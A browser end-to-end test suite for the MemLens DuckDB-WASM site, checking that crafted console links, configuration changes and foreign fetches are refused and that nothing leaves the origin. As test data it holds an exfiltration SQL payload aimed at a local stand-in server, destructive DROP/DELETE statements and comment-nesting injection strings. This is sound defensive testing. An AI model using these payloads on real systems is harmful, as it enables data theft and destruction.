// Issue 21's fault suite, in Chromium on one built site: crafted console links (exfiltration to a
// second local origin, destructive statements), each console statement family, what DuckDB's
// locked configuration refuses by itself, wide records, a stalled download, a URL the CSP
// blocks and `?q=%00`. Each asserts what the reader sees, that nothing left the origin (the
// second server counts every request it gets) and that nothing loaded was lost
// (docs/reliability.md).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createServer, type Server } from 'node:http';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { launchChromium, watchPage, type PageWatch } from '../../scripts/lib/chromium.ts';
import { serveStatic, type StaticServer } from '../../scripts/lib/static-server.ts';
import { E2E_BASE, buildSite } from '../../scripts/lib/site-build.ts';

let server: StaticServer;
let root: string;
let browser: Browser;
let page: Page;
let watch: PageWatch;
let far: { server: Server; origin: string; requests: string[] };
const dir = path.join(tmpdir(), `memlens-sandbox-${process.pid}`);
/** Rendered charts per page before any attack; every page must draw as many after. */
const chartsBefore = new Map<string, number>();
/** Requests the page's CSP stopped in the browser: asked for, never sent. */
const blocked = new Set<string>();

/** The other origin a crafted link tries to reach: it answers everything and counts it. */
async function farServer(): Promise<typeof far> {
  const requests: string[] = [];
  const srv = createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/plain' });
    res.end('a,b\n1,2\n');
  });
  await new Promise<void>((resolve) => srv.listen(0, '127.0.0.1', resolve));
  const { port } = srv.address() as AddressInfo;
  return { server: srv, origin: `http://127.0.0.1:${port}`, requests };
}

async function tableCount(table: string): Promise<number> {
  const cell = page.locator(`[data-table-count="${table}"]`);
  await cell.waitFor({ timeout: 180_000 });
  return Number((await cell.innerText()).replace(/[^0-9]/g, ''));
}

async function loadFile(file: string, table: string): Promise<void> {
  await page.locator('input[type="file"]').setInputFiles(file);
  await page.waitForSelector(`#mapping-title:has-text("${path.basename(file)}")`, {
    timeout: 120_000,
  });
  await page.getByRole('button', { name: 'Load into DuckDB' }).click();
  await page.waitForSelector(`[data-load-notice]:has-text("into ${table}.")`, { timeout: 180_000 });
}

async function go(hash: string): Promise<void> {
  await page.evaluate((h) => (location.hash = h), hash);
  await page.waitForSelector('main h1');
}

const consoleLink = (sql: string, run: boolean) =>
  `#/console?${new URLSearchParams(run ? { run: '1', sql } : { sql })}`;

async function pageIds(): Promise<string[]> {
  const hrefs = await page.$$eval('nav[aria-label="Pages"] a', (as) =>
    as.map((a) => a.getAttribute('href') ?? ''),
  );
  return hrefs.map((h) => h.replace(/^#\//, ''));
}

const rendered = () => page.locator('[data-chart] .chart-canvas[data-rendered="true"]').count();

/** Visits every page: the charts drawn, and no page shows a DuckDB catalog error. */
async function tourPages(record: boolean): Promise<void> {
  for (const id of await pageIds()) {
    await go(`#/${id}`);
    if (record) {
      // A page's charts are drawn once the count stops growing.
      let last = -1;
      let now = await rendered();
      while (now !== last) {
        last = now;
        await page.waitForTimeout(1500);
        now = await rendered();
      }
      chartsBefore.set(id, now);
    } else {
      await expect
        .poll(rendered, { timeout: 60_000, message: `charts on #/${id}` })
        .toBeGreaterThanOrEqual(chartsBefore.get(id) ?? 0);
    }
    expect(await page.locator('main').innerText(), id).not.toMatch(/Catalog Error/);
    expect(await page.locator('[data-chart] .error').count(), id).toBe(0);
  }
}

const consoleError = () => page.locator('[data-console-error]');
const linkNote = () => page.locator('[data-console-link-note]');

const historyLength = () => page.locator('[data-console-history] li').count();

/** Opens a console link that asks to run, and checks it was only put in the editor. */
async function openHeldLink(sql: string): Promise<string> {
  const runs = await historyLength();
  await go(consoleLink(sql, true));
  await linkNote().waitFor({ timeout: 60_000 });
  expect(await page.getByRole('textbox', { name: 'SQL query' }).innerText()).toBe(sql);
  expect(await historyLength()).toBe(runs);
  return linkNote().innerText();
}

/** Runs the editor's text with the Run button, as a reader who pressed it anyway. */
async function pressRun(): Promise<string> {
  const old = await page.$('[data-console-error]');
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await old?.waitForElementState('hidden');
  await consoleError().waitFor({ timeout: 60_000 });
  return consoleError().innerText();
}

beforeAll(async () => {
  mkdirSync(dir, { recursive: true });
  const rows = Array.from({ length: 20 }, (_, i) => JSON.stringify({ query: `secret ${i}` }));
  writeFileSync(path.join(dir, 'good.jsonl'), `${rows.join('\n')}\n`);
  for (const keys of [1_501, 100_000, 1_000_000]) {
    const wide: Record<string, string> = {};
    for (let i = 0; i < keys - 1; i++) wide[`k${i}`] = `v${i}`;
    wide.last_question = `the field at position ${keys}`;
    writeFileSync(path.join(dir, `wide${keys}.json`), JSON.stringify([wide]));
  }
  far = await farServer();
  root = await buildSite();
  server = await serveStatic({ root, base: E2E_BASE });
  browser = await launchChromium();
  page = await browser.newPage({ viewport: { width: 1300, height: 900 } });
  watch = watchPage(page);
  page.context().on('requestfailed', (req) => {
    if (req.failure()?.errorText === 'net::ERR_BLOCKED_BY_CSP') blocked.add(req.url());
  });
  await page.goto(`${server.url}#/mydata`);
  await tableCount('turns');
  await loadFile(path.join(dir, 'good.jsonl'), 'user_good');
  expect(await tableCount('user_good')).toBe(20);
  await tourPages(true);
});

afterAll(async () => {
  // Nothing ever left the site: not the page, not its workers, not DuckDB.
  expect(far?.requests).toEqual([]);
  if (watch && server) {
    const sent = watch.foreignRequests(server.origin).filter((u) => !blocked.has(u));
    expect(sent).toEqual([]);
  }
  await browser?.close();
  await server?.close();
  await new Promise((resolve) => far?.server.close(resolve));
  rmSync(dir, { recursive: true, force: true });
});

describe('crafted console links', () => {
  it('the exfiltration link runs nothing; pressed anyway, it is refused; the other origin hears nothing', async () => {
    const sql = `SET VARIABLE leak=(SELECT string_agg(query,'|') FROM user_good); SELECT * FROM read_text('${far.origin}/leak?d='||url_encode(getvariable('leak')))`;
    expect(await openHeldLink(sql)).toMatch(
      /^This link holds 2 statements, so it was not run by itself: a link runs on opening only when it is a single query that reads/,
    );
    expect(await pressRun()).toMatch(
      /Not run: statement 1 \(SET\) — DuckDB's settings are fixed by MemLens/,
    );
    // One query that reads: the link runs, and DuckDB itself refuses the URL.
    await go(consoleLink(`SELECT * FROM read_text('${far.origin}/leak?d=secret')`, true));
    await consoleError().waitFor({ timeout: 60_000 });
    expect(await consoleError().innerText()).toContain(
      `Permission Error: Cannot access file "${far.origin}/leak?d=secret" - file system operations are disabled by configuration`,
    );
    expect(far.requests).toEqual([]);
  });

  it('destructive links are held, refused when run, and every page still draws its charts', async () => {
    const attempts: [string, RegExp][] = [
      ['DROP TABLE results', /results is one of MemLens's own tables, which every page reads/],
      ['DELETE FROM results', /results is one of MemLens's own tables/],
      [
        'CREATE OR REPLACE TABLE inmind_tasks AS SELECT 1 AS x',
        /inmind_tasks is one of MemLens's own tables/,
      ],
      ['DROP TABLE user_good', /user_good was loaded on the Your data page/],
    ];
    for (const [sql, why] of attempts) {
      expect(await openHeldLink(sql)).toMatch(/holds a (DROP|DELETE|CREATE) statement/);
      expect(await pressRun()).toMatch(why);
    }
    await tourPages(false);
    await go('#/mydata');
    expect(await tableCount('user_good')).toBe(20);
    expect(await tableCount('results')).toBeGreaterThan(0);
  });

  it("links the console's lexer misreads run in DuckDB's read-only transaction: nothing changes", async () => {
    await go('#/mydata');
    const results = await tableCount('results');
    // DuckDB nests block comments, so it reads past the first */ as comment and runs the write.
    const attempts: [string, RegExp][] = [
      [
        '/* /* */ SELECT 1 -- */ ; DROP TABLE results',
        /Not run: DuckDB reads SELECT as one that writes, where the console read a query/,
      ],
      [
        '/* /* */ SELECT 1 -- */ ; DELETE FROM user_good',
        /Not run: DuckDB reads SELECT as one that writes/,
      ],
      [
        "/* /* */ SELECT 1 -- */ ; UPDATE results SET note = 'forged'",
        /Not run: DuckDB reads SELECT as one that writes/,
      ],
      [
        '/* /* */ PIVOT results ON paper USING count(*) -- */ ; COMMIT; DROP TABLE results',
        /Not run: PIVOT holds a ';' inside a string or comment/,
      ],
    ];
    for (const [sql, why] of attempts) {
      const old = await page.$('[data-console-error]');
      await go(consoleLink(sql, true));
      await old?.waitForElementState('hidden');
      await consoleError().waitFor({ timeout: 60_000 });
      expect(await consoleError().innerText(), sql).toMatch(why);
    }
    await go(consoleLink("SELECT count(*) AS forged FROM results WHERE note = 'forged'", true));
    await page.locator('[data-result-grid] [data-row]').first().waitFor({ timeout: 60_000 });
    expect(await page.locator('[data-result-grid] [data-row]').first().innerText()).toMatch(
      /\b0\b/,
    );
    await tourPages(false);
    await go('#/mydata');
    expect(await tableCount('user_good')).toBe(20);
    expect(await tableCount('results')).toBe(results);
  });
});

describe('each console statement family', () => {
  const families: [string, RegExp][] = [
    [`SELECT * FROM read_csv('${'FAR'}/x.csv')`, /Permission Error: Cannot access file/],
    [`SELECT * FROM read_text('${'FAR'}/x')`, /Permission Error: Cannot access file/],
    // Parquet is an extension in DuckDB-WASM, never loaded here (hyparquet reads Your data's).
    [`SELECT * FROM read_parquet('${'FAR'}/x.parquet')`, /exists in the parquet extension/],
    [
      `ATTACH '${'FAR'}/x.db' AS far`,
      /Not run: ATTACH — the console works on the tables of this tab only/,
    ],
    [`COPY user_good TO '${'FAR'}/x.csv'`, /Not run: COPY — the console writes and reads no files/],
    ['INSTALL httpfs', /Not run: INSTALL — MemLens runs DuckDB without extensions/],
    ['LOAD httpfs', /Not run: LOAD — MemLens runs DuckDB without extensions/],
    ['SET enable_external_access = true', /Not run: SET — DuckDB's settings are fixed/],
    ['SET VARIABLE x = 1', /Not run: SET/],
  ];

  it.each(families)('%s: the reader is told why, nothing leaves', async (template, why) => {
    await go(consoleLink(template.replaceAll('FAR', far.origin), false));
    expect(await pressRun()).toMatch(why);
    expect(far.requests).toEqual([]);
  });

  it("a table of the console's own changes after a confirmation, and the list shows it at once", async () => {
    await go(consoleLink('CREATE TABLE my_scratch AS SELECT 1 AS x', false));
    await page.getByRole('button', { name: 'Run', exact: true }).click();
    const confirm = page.locator('[data-console-confirm]');
    await confirm.waitFor();
    expect(await confirm.innerText()).toContain('This text changes my_scratch.');
    await page.getByRole('button', { name: 'Run and change' }).click();
    await page.locator('[data-schema-table="my_scratch"]').waitFor();
    await go(consoleLink('DROP TABLE my_scratch', false));
    await page.getByRole('button', { name: 'Run', exact: true }).click();
    await page.getByRole('button', { name: 'Run and change' }).click();
    await expect.poll(() => page.locator('[data-schema-table="my_scratch"]').count()).toBe(0);
  });
});

describe("DuckDB's locked configuration, past the console (window.memlensSql)", () => {
  const raw = (sql: string) =>
    page.evaluate(async (s) => {
      const answer = await window.memlensSql?.(s);
      return answer && 'error' in answer ? answer.error : 'ran';
    }, sql);

  it('refuses every URL, extension and setting change by itself', async () => {
    const refusals: [string, RegExp][] = [
      [`SELECT * FROM read_text('${far.origin}/x')`, /Permission Error: Cannot access file/],
      [`SELECT * FROM read_csv('${far.origin}/x.csv')`, /Permission Error/],
      [`ATTACH '${far.origin}/x.db' AS far`, /Permission Error/],
      [`COPY (SELECT 1) TO '${far.origin}/x.csv'`, /Permission Error/],
      ["SELECT * FROM glob('/*')", /Permission Error/],
      ['LOAD httpfs', /Loading external extensions is disabled|Permission Error/],
      ['SET enable_external_access = true', /the configuration has been locked/],
      ["SET allowed_directories = ['/']", /the configuration has been locked/],
      ['SET autoload_known_extensions = true', /the configuration has been locked/],
      ['SET lock_configuration = false', /the configuration has been locked/],
      ['RESET enable_external_access', /the configuration has been locked/],
    ];
    const seen: Record<string, string> = {};
    for (const [sql] of refusals) seen[sql] = await raw(sql);
    for (const [sql, why] of refusals) expect(seen[sql], sql).toMatch(why);
    console.info(`DuckDB-WASM in Chromium: ${JSON.stringify(seen, null, 1)}`);
    // INSTALL reports nothing in DuckDB-WASM; what matters is that nothing is fetched or loaded.
    console.info(`INSTALL httpfs: ${await raw('INSTALL httpfs')}`);
    const loaded = await page.evaluate(() =>
      window.memlensSql?.(
        "SELECT extension_name FROM duckdb_extensions() WHERE loaded AND extension_name = 'httpfs'",
      ),
    );
    expect(loaded).toEqual({ rows: [] });
    const settings = await page.evaluate(() =>
      window.memlensSql?.(
        "SELECT current_setting('enable_external_access') AS ext, current_setting('autoinstall_known_extensions') AS inst, current_setting('autoload_known_extensions') AS load, current_setting('lock_configuration') AS locked",
      ),
    );
    expect(settings).toEqual({ rows: [{ ext: false, inst: false, load: false, locked: true }] });
    expect(far.requests).toEqual([]);
  });

  it("DuckDB's worker runs from a checked blob: URL under the page's policy, even on a plain server", async () => {
    const duckdbWorker = page.workers().find((w) => w.url().startsWith('blob:'));
    expect(duckdbWorker, 'a blob: worker').toBeDefined();
    const answer = await duckdbWorker?.evaluate(
      (url) =>
        fetch(url).then(
          () => 'sent',
          (e: unknown) => String(e),
        ),
      `${far.origin}/from-the-duckdb-worker`,
    );
    expect(answer).toMatch(/Failed to fetch/);
    expect(far.requests).toEqual([]);
  });
});

describe('inputs that reach SQL or the network', () => {
  it('#/inmind?q=%00 says the search holds nothing to look for', async () => {
    await go('#/inmind?q=%00');
    const note = page.locator('[data-search-note]');
    await note.waitFor({ timeout: 60_000 });
    expect(await note.innerText()).toBe(
      'The search “U+0000” holds no letter or digit to look for, so no task is filtered out.',
    );
    await expect.poll(() => page.locator('#task-count').innerText()).toBe('125 of 125 tasks');
  });

  it('a body that stalls after its headers stops after 15 s with a message; Cancel still stops at once', async () => {
    server.setFaults((rel) => (rel.startsWith('stall') ? { kind: 'stall', bytes: 8 } : null));
    try {
      await go('#/mydata');
      const started = Date.now();
      await page.getByLabel('Or fetch a URL').fill('stall.jsonl');
      await page.getByRole('button', { name: 'Fetch' }).click();
      const error = page.locator('[data-load-error]');
      await error.waitFor({ timeout: 60_000 });
      const noticed = Date.now() - started;
      expect(await error.innerText()).toBe(
        `${server.url}stall.jsonl: no byte after the first 8 B for 15 s, so the download was stopped; the server stalled: try again later, or download the file and pick it`,
      );
      console.info(`stalled body: message after ${noticed} ms`);
      await page.getByLabel('Or fetch a URL').fill('stall-again.jsonl');
      await page.getByRole('button', { name: 'Fetch' }).click();
      await page.getByRole('button', { name: 'Cancel' }).click();
      await expect
        .poll(() => error.innerText())
        .toBe(`${server.url}stall-again.jsonl: fetch cancelled`);
      expect(await tableCount('user_good')).toBe(20);
    } finally {
      server.setFaults(null);
    }
  });

  it('a URL on another origin: blocked by the policy, which names the origins allowed', async () => {
    await go('#/mydata');
    await page.getByLabel('Or fetch a URL').fill(`${far.origin}/data.jsonl`);
    await page.getByRole('button', { name: 'Fetch' }).click();
    const error = page.locator('[data-load-error]');
    await expect
      .poll(() => error.innerText(), { timeout: 30_000 })
      .toMatch(
        new RegExp(
          `^${far.origin}/data\\.jsonl: blocked by this site's Content-Security-Policy, which lets the page fetch only from ${server.origin} \\(this site\\), https://huggingface\\.co`,
        ),
      );
    expect(await error.innerText()).not.toMatch(/CORS/);
    expect(far.requests).toEqual([]);
  });
});

describe('wide records, the needed field last', () => {
  it.each([1_501, 100_000, 1_000_000])(
    '%i keys: the search finds the last field, it maps and loads',
    async (keys) => {
      await go('#/mydata');
      const file = path.join(dir, `wide${keys}.json`);
      await page.locator('input[type="file"]').setInputFiles(file);
      await page.waitForSelector(`#mapping-title:has-text("wide${keys}.json")`, {
        timeout: 120_000,
      });
      if (keys === 1_000_000) {
        // A searchable window of fields, the rest folded into the table's JSON column.
        expect(await page.locator('[data-fields-folded]').innerText()).toBe(
          "1,000 fields are described up front and 999,000 more are found by the search below; fields not chosen are loaded together, as JSON, in the table's fields column.",
        );
        expect(await page.locator('table.fields tbody tr').count()).toBe(100);
        expect(await page.locator('select[data-role="memory"] option').count()).toBeLessThanOrEqual(
          201,
        );
        await page.locator('[data-field-search]').fill('k99');
        await expect
          .poll(() => page.locator('[data-fields-shown]').innerText())
          .toBe('Showing the first 100 of 11,110 fields matching; type to narrow.');
      }
      await page.locator('[data-field-search]').fill('last_question');
      await expect
        .poll(() => page.locator('[data-fields-shown]').innerText())
        .toBe('1 field matching.');
      expect(await page.locator('table.fields tbody tr').innerText()).toContain(
        `the field at position ${keys}`,
      );
      await page.locator('select[data-role="query"]').selectOption('["last_question"]');
      const load = page.getByRole('button', { name: 'Load into DuckDB' });
      await expect.poll(() => load.isEnabled()).toBe(true);
      await load.click();
      const table = `user_wide${keys}`;
      await page.waitForSelector(`[data-load-notice]:has-text("into ${table}.")`, {
        timeout: 180_000,
      });
      expect(await tableCount(table)).toBe(1);
      expect(await tableCount('user_good')).toBe(20);
      const rows = await page.evaluate((t) => window.memlensSql?.(`SELECT query FROM ${t}`), table);
      expect(rows).toEqual({ rows: [{ query: `the field at position ${keys}` }] });
    },
  );
});

describe('integrity on the first visit (a new profile: no service worker, no caches)', () => {
  const manifest = () =>
    JSON.parse(readFileSync(path.join(root, 'precache-manifest.json'), 'utf8')) as {
      precache: { url: string; bytes: number; sha256: string }[];
    };
  const asset = (pattern: RegExp) => {
    const hit = manifest().precache.find((e) => pattern.test(e.url));
    if (!hit) throw new Error(`no ${pattern} in the build`);
    return hit;
  };

  async function freshPage(): Promise<{ fresh: Page; close: () => Promise<void> }> {
    const context = await browser.newContext({ viewport: { width: 1300, height: 900 } });
    const fresh = await context.newPage();
    const seen = watchPage(fresh);
    return {
      fresh,
      close: async () => {
        expect(seen.foreignRequests(server.origin)).toEqual([]);
        await context.close();
      },
    };
  }

  it('a JS chunk with one flipped byte is refused before it runs; the other pages work', async () => {
    const chunk = asset(/^assets\/ConsolePage-[^/]*\.js$/);
    server.setFaults((rel) => (rel === chunk.url ? { kind: 'flip', offset: 40 } : null));
    const { fresh, close } = await freshPage();
    try {
      const started = Date.now();
      await fresh.goto(`${server.url}#/console`);
      const refused = fresh.locator('main [role="alert"]', { hasText: 'could not be loaded' });
      await refused.waitFor({ timeout: 60_000 });
      console.info(
        `flipped chunk: refused after ${Date.now() - started} ms: ${await refused.innerText()}`,
      );
      expect(await fresh.locator('[data-console-status]').count()).toBe(0);
      await fresh.evaluate(() => (location.hash = '#/inmind'));
      await fresh.waitForSelector('[data-chart] .chart-canvas[data-rendered="true"]', {
        timeout: 120_000,
      });
    } finally {
      server.setFaults(null);
      await close();
    }
  });

  it('a truncated duckdb-eh.wasm is named at once, before DuckDB is started', async () => {
    const wasm = asset(/duckdb-eh[^/]*\.wasm$/);
    server.setFaults((rel) => (rel === wasm.url ? { kind: 'truncate', bytes: 1 << 20 } : null));
    const { fresh, close } = await freshPage();
    try {
      const started = Date.now();
      await fresh.goto(`${server.url}#/mydata`);
      const fatal = fresh.locator('[data-app-error]', { hasText: 'DuckDB could not start' });
      await fatal.waitFor({ timeout: 60_000 });
      const noticed = Date.now() - started;
      expect(await fatal.innerText()).toMatch(
        /DuckDB could not start \(duckdb-eh[^,]*\.wasm, [^)]*\): duckdb-eh[^:]*\.wasm: 1\.0 MiB whose sha256 is [0-9a-f]{12}…, not this build's [0-9a-f]{12}…/,
      );
      console.info(`truncated wasm: reported after ${noticed} ms`);
    } finally {
      server.setFaults(null);
      await close();
    }
  });
});
